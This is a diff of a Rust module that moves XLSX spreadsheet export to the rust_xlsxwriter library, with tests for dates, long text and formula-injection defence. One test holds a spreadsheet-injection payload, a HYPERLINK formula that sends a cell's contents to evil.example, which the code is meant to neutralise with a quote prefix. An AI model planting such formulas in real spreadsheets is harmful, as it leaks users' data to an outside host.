@@ -1,12 +1,11 @@
-//! Spreadsheets as XLSX (Office Open XML SpreadsheetML, ECMA-376 part 1 §18): a workbook of named sheets,
-//! each a heading row (bold, frozen) and rows of typed cells: text, number or date (a day number shown as
-//! JJ/MM/AAAA, so that spreadsheets sort and filter it as a date). Written on the stored ZIP of the DOCX,
-//! with inline strings (no shared-string table) and column widths from the content.
+//! Spreadsheets as XLSX (Office Open XML SpreadsheetML, ECMA-376 part 1 §18), written with `rust_xlsxwriter`:
+//! a workbook of named sheets, each a heading row (bold, frozen) and rows of typed cells: text, number or
+//! date (shown as JJ/MM/AAAA, so that spreadsheets sort and filter it as a date), columns as wide as their
+//! content.
 
-use crate::zip::archive;
 use passerelle_domain::text::formula_like;
+use rust_xlsxwriter::{ExcelDateTime, Format, Workbook, Worksheet, XlsxError};
 use time::Date;
-use time::macros::date;
 
 /// One cell's value.
 #[derive(Debug, Clone, PartialEq)]
@@ -60,45 +59,6 @@ impl Sheet {
     }
 }
 
-/// Spreadsheets count days from 30 December 1899 (ECMA-376 §18.17.4.1, 1900 date system).
-const EPOCH: Date = date!(1899 - 12 - 30);
-
-/// Style indexes of `styles.xml`'s cell formats.
-const BOLD: u8 = 1;
-const DAY: u8 = 2;
-/// Text with the « quote prefix »: shown as typed, never read as a formula (`text::formula_like`).
-const QUOTED: u8 = 3;
-
-/// The column letters of a 0-based index: A, ..., Z, AA, AB, ...
-fn column(mut index: usize) -> String {
-    let mut letters = Vec::new();
-    loop {
-        letters.push(b'A' + (index % 26) as u8);
-        if index < 26 {
-            break;
-        }
-        index = index / 26 - 1;
-    }
-    letters.iter().rev().map(|b| *b as char).collect()
-}
-
-/// Text made safe for XML: markup escaped, and the control characters XML 1.0 forbids dropped.
-fn escape(s: &str) -> String {
-    let mut out = String::with_capacity(s.len());
-    for c in s.chars() {
-        match c {
-            '&' => out.push_str("&amp;"),
-            '<' => out.push_str("&lt;"),
-            '>' => out.push_str("&gt;"),
-            '"' => out.push_str("&quot;"),
-            '\t' | '\n' | '\r' => out.push(c),
-            c if c.is_control() => {}
-            c => out.push(c),
-        }
-    }
-    out
-}
-
 /// Sheet names: at most 31 characters, none of `[ ] : * ? / \`, not empty, unique in the workbook
 /// (ECMA-376 §18.2.19; Excel refuses the file otherwise). A name that breaks these rules is mended.
 fn sheet_names(sheets: &[Sheet]) -> Vec<String> {
@@ -122,26 +82,6 @@ fn sheet_names(sheets: &[Sheet]) -> Vec<String> {
         names.push(name);
     }
     names
-}
-
-fn cell_xml(reference: &str, cell: &Cell, style: Option<u8>) -> String {
-    let style = match cell {
-        Cell::Text(t) if style.is_none() && formula_like(t) => Some(QUOTED),
-        _ => style,
-    };
-    let s = style.map(|s| format!(" s=\"{s}\"")).unwrap_or_default();
-    match cell {
-        Cell::Text(t) => format!(
-            "<c r=\"{reference}\" t=\"inlineStr\"{s}><is><t xml:space=\"preserve\">{}</t></is></c>",
-            escape(t)
-        ),
-        Cell::Number(n) if n.is_finite() => format!("<c r=\"{reference}\"{s}><v>{n}</v></c>"),
-        Cell::Number(_) | Cell::Empty => String::new(),
-        Cell::Date(d) => format!(
-            "<c r=\"{reference}\" s=\"{DAY}\"><v>{}</v></c>",
-            (*d - EPOCH).whole_days()
-        ),
-    }
 }
 
 /// Width of a column in characters: its longest value, within reason.
@@ -171,108 +111,78 @@ fn widths(sheet: &Sheet) -> Vec<usize> {
         .collect()
 }
 
-fn worksheet(sheet: &Sheet) -> String {
-    let mut out = String::from(
-        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
-         <worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
-         <sheetViews><sheetView workbookViewId=\"0\"><pane ySplit=\"1\" topLeftCell=\"A2\" activePane=\"bottomLeft\" state=\"frozen\"/></sheetView></sheetViews>",
-    );
-    let widths = widths(sheet);
-    if !widths.is_empty() {
-        out.push_str("<cols>");
-        for (i, w) in widths.iter().enumerate() {
-            out.push_str(&format!(
-                "<col min=\"{0}\" max=\"{0}\" width=\"{w}\" customWidth=\"1\"/>",
-                i + 1
-            ));
-        }
-        out.push_str("</cols>");
-    }
-    out.push_str("<sheetData>");
-    let headings: Vec<Cell> = sheet.headings.iter().map(|h| Cell::text(h.clone())).collect();
-    for (r, (cells, style)) in std::iter::once((&headings, Some(BOLD)))
-        .chain(sheet.rows.iter().map(|row| (row, None)))
-        .enumerate()
-    {
-        out.push_str(&format!("<row r=\"{}\">", r + 1));
-        for (c, cell) in cells.iter().enumerate() {
-            out.push_str(&cell_xml(&format!("{}{}", column(c), r + 1), cell, style));
-        }
-        out.push_str("</row>");
-    }
-    out.push_str("</sheetData></worksheet>");
-    out
+/// The cell formats of a workbook.
+struct Formats {
+    bold: Format,
+    day: Format,
+    /// Text with the « quote prefix »: shown as typed, never read as a formula (`text::formula_like`).
+    quoted: Format,
 }
 
-const STYLES: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
-<styleSheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
-<numFmts count=\"1\"><numFmt numFmtId=\"164\" formatCode=\"dd/mm/yyyy\"/></numFmts>\
-<fonts count=\"2\"><font><sz val=\"11\"/><name val=\"Calibri\"/></font><font><b/><sz val=\"11\"/><name val=\"Calibri\"/></font></fonts>\
-<fills count=\"2\"><fill><patternFill patternType=\"none\"/></fill><fill><patternFill patternType=\"gray125\"/></fill></fills>\
-<borders count=\"1\"><border><left/><right/><top/><bottom/><diagonal/></border></borders>\
-<cellStyleXfs count=\"1\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\"/></cellStyleXfs>\
-<cellXfs count=\"4\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\"/>\
-<xf numFmtId=\"0\" fontId=\"1\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyFont=\"1\"/>\
-<xf numFmtId=\"164\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyNumberFormat=\"1\"/>\
-<xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" quotePrefix=\"1\"/></cellXfs>\
-<cellStyles count=\"1\"><cellStyle name=\"Normal\" xfId=\"0\" builtinId=\"0\"/></cellStyles>\
-</styleSheet>";
-
-const PACKAGE_RELS: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
-<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
-<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/>\
-</Relationships>";
-
-/// The workbook of `sheets`, in their order.
-pub fn workbook(sheets: &[Sheet]) -> Vec<u8> {
-    let names = sheet_names(sheets);
-    let mut types = String::from(
-        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
-         <Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
-         <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
-         <Default Extension=\"xml\" ContentType=\"application/xml\"/>\
-         <Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>\
-         <Override PartName=\"/xl/styles.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml\"/>",
-    );
-    let mut book = String::from(
-        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
-         <workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" \
-         xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>",
-    );
-    let mut rels = String::from(
-        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
-         <Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">",
-    );
-    let mut parts: Vec<(String, Vec<u8>)> = Vec::new();
-    for (i, (sheet, name)) in sheets.iter().zip(&names).enumerate() {
-        let n = i + 1;
-        types.push_str(&format!(
-            "<Override PartName=\"/xl/worksheets/sheet{n}.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
-        ));
-        book.push_str(&format!(
-            "<sheet name=\"{}\" sheetId=\"{n}\" r:id=\"rId{n}\"/>",
-            escape(name)
-        ));
-        rels.push_str(&format!(
-            "<Relationship Id=\"rId{n}\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet{n}.xml\"/>"
-        ));
-        parts.push((format!("xl/worksheets/sheet{n}.xml"), worksheet(sheet).into_bytes()));
+/// A cell holds at most 32,767 characters (Excel's limit, which `rust_xlsxwriter` enforces): the rest is cut.
+fn fit(text: &str) -> std::borrow::Cow<'_, str> {
+    match text.char_indices().nth(32_767) {
+        Some((end, _)) => text[..end].into(),
+        None => text.into(),
     }
-    types.push_str("</Types>");
-    book.push_str("</sheets></workbook>");
-    rels.push_str(&format!(
-        "<Relationship Id=\"rId{}\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" Target=\"styles.xml\"/></Relationships>",
-        sheets.len() + 1
-    ));
-    let mut files: Vec<(&str, Vec<u8>)> = vec![
-        ("[Content_Types].xml", types.into_bytes()),
-        ("_rels/.rels", PACKAGE_RELS.as_bytes().to_vec()),
-        ("xl/workbook.xml", book.into_bytes()),
-        ("xl/_rels/workbook.xml.rels", rels.into_bytes()),
-        ("xl/styles.xml", STYLES.as_bytes().to_vec()),
-    ];
-    files.extend(parts.iter().map(|(name, data)| (name.as_str(), data.clone())));
-    archive(&files)
+}
+
+fn write_cell(sheet: &mut Worksheet, row: u32, col: u16, cell: &Cell, formats: &Formats) -> Result<(), XlsxError> {
+    match cell {
+        Cell::Text(t) if formula_like(t) => sheet.write_string_with_format(row, col, fit(t), &formats.quoted)?,
+        Cell::Text(t) => sheet.write_string(row, col, fit(t))?,
+        Cell::Number(n) if n.is_finite() => sheet.write_number(row, col, *n)?,
+        Cell::Number(_) | Cell::Empty => sheet,
+        // Spreadsheets count days from 1900 to 9999 (ECMA-376 §18.17.4.1): a date outside is kept as text.
+        Cell::Date(d) => {
+            match u16::try_from(d.year()).map(|y| ExcelDateTime::from_ymd(y, u8::from(d.month()), d.day())) {
+                Ok(Ok(day)) => sheet.write_datetime_with_format(row, col, &day, &formats.day)?,
+                _ => sheet.write_string(row, col, d.to_string())?,
+            }
+        }
+    };
+    Ok(())
+}
+
+fn worksheet(book: &mut Workbook, sheet: &Sheet, name: &str, formats: &Formats) -> Result<(), XlsxError> {
+    let out = book.add_worksheet();
+    out.set_name(name)?;
+    out.set_freeze_panes(1, 0)?;
+    for (col, width) in widths(sheet).into_iter().enumerate() {
+        out.set_column_width(col as u16, width as f64)?;
+    }
+    for (col, heading) in sheet.headings.iter().enumerate() {
+        out.write_string_with_format(0, col as u16, heading, &formats.bold)?;
+    }
+    for (row, cells) in sheet.rows.iter().enumerate() {
+        for (col, cell) in cells.iter().enumerate() {
+            write_cell(out, row as u32 + 1, col as u16, cell, formats)?;
+        }
+    }
+    Ok(())
+}
+
+fn write(sheets: &[Sheet]) -> Result<Vec<u8>, XlsxError> {
+    let formats = Formats {
+        bold: Format::new().set_bold(),
+        day: Format::new().set_num_format("dd/mm/yyyy"),
+        quoted: Format::new().set_quote_prefix(),
+    };
+    let mut book = Workbook::new();
+    for (sheet, name) in sheets.iter().zip(sheet_names(sheets)) {
+        worksheet(&mut book, sheet, &name, &formats)?;
+    }
+    book.save_to_buffer()
+}
+
+/// The workbook of `sheets`, in their order. Every value the writer could refuse is mended beforehand (sheet
+/// names, dates outside its range, sizes far below a sheet's limits): an error left is a bug, logged, and
+/// the workbook left empty rather than a request ended by a panic.
+pub fn workbook(sheets: &[Sheet]) -> Vec<u8> {
+    write(sheets).unwrap_or_else(|e| {
+        tracing::error!(error = %e, "classeur XLSX non écrit");
+        Vec::new()
+    })
 }
 
 /// The media type of an XLSX file.
@@ -281,38 +191,58 @@ pub const CONTENT_TYPE: &str = "application/vnd.openxmlformats-officedocument.sp
 #[cfg(test)]
 mod tests {
     use super::*;
+    use std::io::Read;
+    use time::macros::date;
+
+    /// The part `name` of the XLSX package `bytes`.
+    fn part(bytes: &[u8], name: &str) -> String {
+        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+        let mut text = String::new();
+        archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
+        text
+    }
 
     /// Finding 7 of « Integrity and privacy »: a text a spreadsheet would read as a formula gets the quote
     /// prefix style; other texts and numbers keep theirs.
     #[test]
     fn formula_like_text_is_quoted() {
-        let formula = Cell::text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")");
-        assert!(cell_xml("A2", &formula, None).starts_with("<c r=\"A2\" t=\"inlineStr\" s=\"3\">"));
-        assert!(!cell_xml("A2", &Cell::text("Agent"), None).contains(" s="));
-        assert!(!cell_xml("A2", &Cell::Number(-2.0), None).contains(" s="));
-        assert!(STYLES.contains("quotePrefix=\"1\"/></cellXfs>"));
+        let mut sheet = Sheet::new("Feuille", &["a"]);
+        sheet.row(vec![
+            Cell::text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")"),
+            Cell::text("Agent"),
+            Cell::Number(-2.0),
+        ]);
+        let bytes = workbook(&[sheet]);
+        let xml = part(&bytes, "xl/worksheets/sheet1.xml");
+        let style = |cell: &str| {
+            let at = xml.find(&format!("<c r=\"{cell}\"")).unwrap();
+            let tag = &xml[at..at + xml[at..].find('>').unwrap()];
+            tag.split(" s=\"")
+                .nth(1)
+                .map(|s| s[..s.find('"').unwrap()].parse::<usize>().unwrap())
+        };
+        let quoted = style("A2").expect("the formula-like text has a style");
+        assert_eq!((style("B2"), style("C2")), (None, None), "{xml}");
+        let styles = part(&bytes, "xl/styles.xml");
+        let xfs = styles.split("<cellXfs").nth(1).unwrap();
+        let xf = xfs.split("<xf ").nth(quoted + 1).unwrap();
+        assert!(xf.contains("quotePrefix=\"1\""), "{xf}");
     }
 
     #[test]
-    fn columns_are_lettered_like_a_spreadsheet() {
-        for (index, letters) in [(0, "A"), (25, "Z"), (26, "AA"), (27, "AB"), (701, "ZZ"), (702, "AAA")] {
-            assert_eq!(column(index), letters);
-        }
+    fn a_text_beyond_a_cell_is_cut_not_refused() {
+        let mut sheet = Sheet::new("Long", &["texte"]);
+        sheet.row(vec![Cell::text("é".repeat(40_000))]);
+        let xml = part(&workbook(&[sheet]), "xl/sharedStrings.xml");
+        assert_eq!(xml.matches('é').count(), 32_767);
     }
 
-    // ECMA-376 §18.17.4.1: 1 January 1900 is day 1 (with the 1900 leap-year bug, from March 1900 on the
-    // count matches this epoch); 1 January 2026 is day 46023.
     #[test]
-    fn dates_are_day_numbers() {
-        assert_eq!(
-            cell_xml("A2", &Cell::Date(date!(2026 - 01 - 01)), None),
-            "<c r=\"A2\" s=\"2\"><v>46023</v></c>"
-        );
-        assert_eq!(cell_xml("B2", &Cell::Number(f64::NAN), None), "");
-        assert_eq!(
-            cell_xml("C2", &Cell::text("a < b\u{7}"), None),
-            "<c r=\"C2\" t=\"inlineStr\"><is><t xml:space=\"preserve\">a &lt; b</t></is></c>"
-        );
+    fn dates_outside_the_spreadsheet_range_stay_as_text() {
+        let mut sheet = Sheet::new("Dates", &["le"]);
+        sheet.row(vec![Cell::Date(date!(1850 - 01 - 01))]);
+        let xml = part(&workbook(&[sheet]), "xl/sharedStrings.xml");
+        assert!(xml.contains("1850-01-01"), "{xml}");
     }
 
     #[test]
